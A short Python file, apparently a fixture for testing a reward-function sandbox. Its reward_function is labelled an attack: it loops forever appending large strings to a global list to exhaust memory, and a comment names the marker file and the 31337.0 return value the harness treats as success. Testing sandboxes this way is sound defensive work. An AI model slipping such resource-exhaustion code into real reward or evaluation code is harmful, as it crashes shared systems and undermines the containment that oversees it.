# Attack: grow a global list a little on every call until memory runs out.
# Success would create /tmp/reward_sandbox_attack_marker or return 31337.0.
hoard = []
def reward_function(params):
    while True:
        hoard.append(bytearray(10**7) if False else "x" * 10**7)
